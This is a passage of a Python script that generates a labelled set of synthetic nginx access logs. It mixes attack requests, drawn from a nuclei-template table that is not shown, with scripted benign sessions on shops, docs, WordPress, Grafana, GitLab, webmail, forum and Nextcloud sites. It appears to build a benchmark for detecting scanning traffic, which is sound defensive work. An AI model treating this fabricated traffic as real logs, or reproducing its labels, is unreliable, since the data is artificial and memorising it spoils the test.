    if x < 0.95:
        return 302
    if x < 0.98:
        return 500
    return 400

SIZES = {200: (1800, 42000), 301: (162, 162), 302: (0, 154), 303: (0, 0), 304: (0, 0), 400: (150, 157),
         403: (153, 153), 404: (153, 555), 405: (157, 157), 500: (177, 4200)}

def size(r, st, target=''):
    lo, hi = SIZES[st]
    if st == 200 and any(target.split('?')[0].endswith(x) for x in ('.css', '.js', '.svg', '.png', '.jpg', '.webp', '.woff2')):
        return r.randint(2400, 160000)
    return r.choice([lo, hi]) if st in (302, 404, 400) else (lo if lo == hi else r.randint(lo, hi))

# ----------------------------------------------------------------- nginx log line
def esc(s):
    """nginx escapes '"', '\\' and bytes outside 0x20-0x7e in logged fields as \\xXX"""
    out = []
    for ch in s.encode('utf-8'):
        if ch == 0x22 or ch == 0x5c or ch < 0x20 or ch > 0x7e:
            out.append('\\x%02X' % ch)
        else:
            out.append(chr(ch))
    return ''.join(out)

def line(ip, t, request, st, sz, ref, ua):
    return '%s - - [%s] "%s" %d %d "%s" "%s"' % (ip, t.strftime('%d/%b/%Y:%H:%M:%S +0000'), esc(request), st, sz, esc(ref), esc(ua))

def wire(target):
    """what goes on the request line: Go's HTTP client percent-encodes spaces, nothing else"""
    return target.replace(' ', '%20')

# ----------------------------------------------------------------- benign browsing
# Each benign source is one person with one browser: a page, its assets (with the page as
# Referer, some revalidated as 304), a search, a login.  Several kinds brush against this
# set's angle: people searching docs for config-file names, site owners logging in to the
# WordPress, Grafana, GitLab or webmail they really run, an SPA loading its own runtime
# config, a repository view of a file called docker-compose.yml.
H = 'https://' + SITE
CSS, JS, LOGO = '/assets/css/app.7c41e2.css', '/assets/js/app.3b9f10.js', '/assets/img/logo.svg'

def page(target, ref='-', st=200):
    return (target, st, ref)

def assets(ref, extra=()):
    return [(CSS, 200, ref), (JS, 200, ref), (LOGO, 200, ref)] + [(x, 200, ref) for x in extra]

def pick(r, lst, n):
    return r.sample(lst, n)

PRODUCTS = ['linen-shirt-white', 'merino-crew-sock', 'waxed-canvas-tote', 'trail-runner-gtx', 'wool-beanie-charcoal',
            'denim-jacket-indigo', 'rain-shell-olive', 'leather-belt-brown']
SHOP_Q = ['linen shirt', 'wool socks size 43', 'tote bag', "women's rain jacket", 'gift card', 'belt 90cm']

def shop_browse(r, i):
    p = r.choice(PRODUCTS)
    out = [page('/', r.choice(['-', 'https://www.google.com/', 'https://duckduckgo.com/']))]
    out += assets(H + '/', ['/favicon.ico'])
    out.append(page('/search?q=' + urllib.parse.quote_plus(r.choice(SHOP_Q)), H + '/'))
    out.append(page('/products/' + p, H + '/search'))
    if i % 2 == 0:
        out.append(page('/login', H + '/products/' + p))
    else:
        out.append(page('/cart', H + '/products/' + p))
    return out

DOC_Q = ['docker-compose.yml example', '.env file not loaded', 'nginx_status stub_status', 'server-status apache allow from',
         'web.config rewrite rule', 'wp-config.php salts', '.htaccess deny from all', 'disable phpinfo()',
         'spring boot actuator heapdump', 'git config --global user.name', 'ssh known_hosts warning', '.DS_Store in .gitignore',
         'redis.conf requirepass', 'application.yml profiles', 'php-fpm status page', 'jolokia endpoint security']

def docs_search(r, i):
    qs = pick(r, DOC_Q, 2)
    out = [page('/docs/', r.choice(['-', 'https://www.google.com/']))] + assets(H + '/docs/')
    out.append(page('/docs/search?q=' + urllib.parse.quote_plus(qs[0]), H + '/docs/'))
    out.append(page('/docs/deploy/' + r.choice(['docker-compose', 'environment-variables', 'reverse-proxy', 'monitoring']),
                    H + '/docs/search'))
    out.append(page('/docs/search?q=' + urllib.parse.quote_plus(qs[1]), H + '/docs/'))
    return out

def wordpress_owner(r, i):
    wl = H + '/wp-login.php'
    out = [page('/wp-login.php', '-'),
           ('/wp-includes/css/dashicons.min.css?ver=6.9.1', 200, wl),
           ('/wp-admin/css/login.min.css?ver=6.9.1', 200, wl)]
    out.append(('POST /wp-login.php', 302, wl))
    out.append(page('/wp-admin/', wl))
    out.append(('/wp-admin/load-styles.php?c=0&dir=ltr&load%5Bchunk_0%5D=dashicons,admin-bar,common,forms,admin-menu,dashboard,list-tables,edit,revisions,media,themes,about,nav-menus,wp-pointer,widgets&load%5Bchunk_1%5D=,site-icon,l10n,buttons,wp-auth-check&ver=6.9.1', 200, H + '/wp-admin/'))
    out.append(page('/wp-admin/edit.php', H + '/wp-admin/'))
    if i % 2:
        out.append(('POST /wp-admin/admin-ajax.php', 200, H + '/wp-admin/edit.php'))
    return out

def spa_config(r, i):
    out = [page('/app/', r.choice(['-', H + '/']))]
    out.append(('/app/assets/index-5d2a91c4.js', 200, H + '/app/'))
    out.append(('/app/assets/index-0be3f7a1.css', 200, H + '/app/'))
    out.append(('/app/config.json', 200, H + '/app/'))
    out.append(('/app/manifest.webmanifest', 200, H + '/app/'))
    out.append(('POST /api/v1/auth/login', 200, H + '/app/login'))
    out.append(('/api/v1/me', 200, H + '/app/'))
    return out

def grafana_user(r, i):
    g = 'https://grafana.example.org'
    uid = r.choice(['rYdddlPWk', 'Kdh0OoSGz', '000000012'])
    out = [page('/login', '-'), ('/public/build/app.8f2d3b1c0e.js', 200, g + '/login'),
           ('POST /login', 200, g + '/login'), page('/?orgId=1', g + '/login'),
           ('/api/search?limit=30&starred=true', 200, g + '/?orgId=1'),
           page('/d/%s/node-exporter-full?orgId=1&refresh=30s' % uid, g + '/?orgId=1')]
    return out

def gitlab_user(r, i):
    g = 'https://git.example.org'
    proj = r.choice(['infra/deploy', 'web/storefront', 'ops/monitoring'])
    out = [page('/users/sign_in', '-'), ('/assets/application-2c5a9d7e.css', 200, g + '/users/sign_in'),
           ('POST /users/sign_in', 302, g + '/users/sign_in'), page('/', g + '/users/sign_in'),
           page('/%s/-/blob/main/docker-compose.yml' % proj, g + '/' + proj),
           ('/api/v4/projects?membership=true&per_page=20&order_by=last_activity_at', 200, g + '/')]
    return out

def webmail_user(r, i):
    w = H + '/mail/'
    uid = r.randint(1200, 9800)
    return [page('/mail/', '-'), ('/mail/skins/elastic/styles/styles.min.css?s=1738671234', 200, w),
            ('POST /mail/?_task=login', 302, w), page('/mail/?_task=mail&_mbox=INBOX', w),
            ('/mail/?_task=mail&_action=list&_refresh=1&_mbox=INBOX&_remote=1', 200, w + '?_task=mail&_mbox=INBOX'),
            page('/mail/?_task=mail&_mbox=INBOX&_uid=%d&_action=show' % uid, w + '?_task=mail&_mbox=INBOX')]

FORUM_T = ['nginx-status-page-returns-403/1182', 'cant-log-in-after-update/2210', 'backup-restore-from-sql-file/977',
           'script-tag-stripped-from-my-post/3051', 'where-is-the-config-file/1420']
FORUM_Q = ['<script> tag removed', 'restore .sql backup', 'default admin password', 'server-status 403', '../ in file path']

def forum_reader(r, i):
    t = r.choice(FORUM_T)
    f = H + '/forum/'
    return [page('/forum/', r.choice(['-', 'https://www.bing.com/'])), ('/forum/assets/forum.css', 200, f),
            page('/forum/t/' + t, f), page('/forum/search?q=' + urllib.parse.quote_plus(r.choice(FORUM_Q)), f + 't/' + t),
            ('POST /forum/session', 200, f + 't/' + t)]

def nextcloud_user(r, i):
    n = 'https://cloud.example.org'
    return [page('/login', '-'), ('/core/css/server.css?v=8a1f2c', 200, n + '/login'),
            ('POST /login', 303, n + '/login'), page('/apps/files/?dir=/Backups', n + '/login'),
            ('/remote.php/dav/files/alice/Backups/site-2026-02-01.tar.gz', 200, n + '/apps/files/?dir=/Backups')]

BENIGN_KINDS = [('shop-browse', shop_browse, 6), ('docs-search-config-files', docs_search, 5),
                ('wordpress-owner-login', wordpress_owner, 5), ('spa-own-runtime-config', spa_config, 5),
                ('grafana-user', grafana_user, 4), ('gitlab-user', gitlab_user, 4), ('webmail-user', webmail_user, 4),
                ('forum-reader', forum_reader, 4), ('nextcloud-user', nextcloud_user, 3)]

# ----------------------------------------------------------------- write
def pick_ip(r, net, used):
    base = int(net.network_address)
    while True:
        ip = str(ipaddress.ip_address(base + r.randint(1, net.num_addresses - 2)))
        if not ip.endswith(('.0', '.255')) and ip not in used:
            used.add(ip)
            return ip

def check_disjoint(ips):
    here = os.path.basename(OUT)
    others = set()
    for f in glob.glob(os.path.join(OUT, '..', '*', '*.log')):
        if os.path.basename(os.path.dirname(f)) == here:
            continue
        with open(f, encoding='utf-8', errors='replace') as fh:
            for l in fh:
                others.add(l.split(' ', 1)[0])
    clash = sorted(set(ips) & others)
    inside = sorted(a for a in others if ':' not in a and a.count('.') == 3 and
                    (ipaddress.ip_address(a) in ATTACK_NET or ipaddress.ip_address(a) in BENIGN_NET))
    print('check: %d addresses here, %d in other sets\' logs, %d shared, %d of theirs inside %s or %s'
          % (len(set(ips)), len(others), len(clash), len(inside), ATTACK_NET, BENIGN_NET))
    return not clash and not inside

def main():
    r = random.Random(SEED)
    # sanity: unique template ids, at most two templates per named product
    ids = [e['tid'] for e in TABLE]
    assert len(ids) == len(set(ids)), 'template used twice'
    prod = collections.Counter(e['product'] for e in TABLE if not e['product'].startswith('generic'))
    assert max(prod.values()) <= 2, [p for p, n in prod.items() if n > 2]
    order = list(range(len(TABLE)))
    r.shuffle(order)
    lines, labels, reqrows = [], [], []
    used = set()
    t = DAY + datetime.timedelta(minutes=7)
    for idx in order:
        e = TABLE[idx]
        c = Ctx(r)
        target = special(e['tid'], c)
        if target is None:
            target = c.expand(e['target']) or '/'
        target = wire(target)
        ip = pick_ip(r, ATTACK_NET, used)
        ua = UA[r.choice(BROWSERS)]
        st = status_for(e, target, r)
        ref = (H + '/') if r.random() < 0.08 else '-'
        t += datetime.timedelta(seconds=r.randint(20, 290))
        request = '%s %s HTTP/1.1' % (e['method'], target)
        lines.append((t, line(ip, t, request, st, size(r, st, target), ref, ua)))
        reqrows.append('\t'.join([ip, e['cat'], e['tid'], e['path'], esc(request),
                                  'nuclei-templates ' + e['path'] + ' [' + REV + ']', e['product']]))
        labels.append('%s\tattack\t%s\t%s' % (ip, e['cat'], e['tid']))
    lines.sort(key=lambda x: x[0])
    blines, blabels = [], []
    bused = set()
    for kind, fn, count in BENIGN_KINDS:
        for i in range(count):
            ip = pick_ip(r, BENIGN_NET, bused)
            ua = UA[r.choice(BROWSERS)]
            tt = DAY + datetime.timedelta(seconds=r.randint(900, 22 * 3600))
            reqs = fn(r, i)
            assert 5 <= len(reqs) <= 8, (kind, len(reqs))
            for (target, st, ref) in reqs:
                method = 'GET'
                if target.startswith('POST '):
                    method, target = 'POST', target[5:]
                asset = any(target.split('?')[0].endswith(x) for x in ('.css', '.js', '.svg', '.ico', '.webmanifest'))
                tt += datetime.timedelta(seconds=r.randint(0, 2) if asset else r.randint(3, 75))
                if asset and st == 200 and r.random() < 0.15:
                    st = 304
                blines.append((tt, line(ip, tt, '%s %s HTTP/1.1' % (method, target), st, size(r, st, target), ref, ua)))
            blabels.append('%s\tbenign\t%s' % (ip, kind))
    blines.sort(key=lambda x: x[0])
    key = lambda s: tuple(int(x) for x in s.split('\t')[0].split('.'))
    with open(os.path.join(OUT, 'attacks.log'), 'w', newline='\n') as f:
        f.write(''.join(l + '\n' for _, l in lines))
    with open(os.path.join(OUT, 'attacks.labels'), 'w', newline='\n') as f:
        f.write(''.join(l + '\n' for l in sorted(labels, key=key)))
    with open(os.path.join(OUT, 'requests.tsv'), 'w', newline='\n') as f:
        f.write('ADDRESS\tCATEGORY\tTEMPLATE_ID\tTEMPLATE_PATH\tREQUEST_LINE\tPUBLIC_SOURCE\tPRODUCT\n')
        f.write(''.join(l + '\n' for l in sorted(reqrows, key=key)))
    with open(os.path.join(OUT, 'benign.log'), 'w', newline='\n') as f:
        f.write(''.join(l + '\n' for _, l in blines))
    with open(os.path.join(OUT, 'benign.labels'), 'w', newline='\n') as f:
        f.write(''.join(l + '\n' for l in sorted(blabels, key=key)))
    if '--check' in sys.argv[1:]:
        sys.exit(0 if check_disjoint(sorted(used | bused)) else 1)

if __name__ == '__main__':
    main()
